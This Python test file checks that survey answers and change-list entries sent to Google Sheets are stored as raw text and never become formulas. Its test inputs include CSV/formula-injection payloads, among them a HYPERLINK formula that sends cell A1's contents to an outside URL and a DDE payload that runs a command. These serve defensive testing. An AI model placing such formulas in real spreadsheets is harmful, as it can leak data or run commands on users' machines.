"""What people answered stays what they answered: never a formula, a number, a day or a truth that it was not."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.fakes.google.cells import Formula

if TYPE_CHECKING:
    from tests.system.google.story import Story

WORDS = (
    '=HYPERLINK("https://example.org/?"&A1, "click")', "=1+1", "+49 30 901820", "@SUM(A1)", "-1", "'quoted", "007",
    "TRUE", "3/4", "1e5", "12:30", "£5", "50%", "2022-03-01", "=cmd|' /C calc'!A0", "a\nb", "＝1+1", "#REF!", "null",
)  # fmt: skip


def test_words_stay_the_same_words(story: Story) -> None:
    for number, words in enumerate(WORDS):
        story.answer("pulse", f"new {number}", team="Elm", ownership="Agree", going_well=words, in_the_way=words)
    story.sync()
    count = len(story.google.calls)
    story.publish()
    found = {row["response_id"]: (row["going_well"], row["in_the_way"]) for row in story.rows("pulse")}
    assert {f"new {number}": (words, words) for number, words in enumerate(WORDS)}.items() <= found.items()
    writes = [call for call in story.calls_since(count) if call.name == "sheets.spreadsheets.values.batchUpdate"]
    assert {call.body["valueInputOption"] for call in writes} == {"RAW"}


def test_a_shared_sheet_may_hold_anything(story: Story) -> None:
    usual = {"team": "Elm", "barrier": "Travel", "stage": "Idea"}
    for number, words in enumerate(WORDS):
        story.list_change(ref=f"N{number}", change=words, notes=words, **usual)
    story.list_change(ref="F1", change=Formula("=1+1", 2), **usual)
    story.sync()
    story.publish()
    rows = {row["ref"]: row for row in story.rows("small_changes")}
    for number, words in enumerate(WORDS):
        assert (rows[f"N{number}"]["change"], rows[f"N{number}"]["notes"]) == (words, words)
    assert str(rows["F1"]["change"]) == "2"


def test_nothing_that_was_ever_written_is_a_formula(story: Story) -> None:
    for identity in story.published.values():
        for tab in story.google.spreadsheet(identity).tabs:
            assert not [value for row in tab.cells for value in row if isinstance(value, Formula)]
    names = {call.name for call in story.google.calls} | {call.path.rpartition(":")[2] for call in story.google.calls}
    assert not names & {"append", "clear", "sheets.spreadsheets.values.update", "sheets.spreadsheets.values.append"}
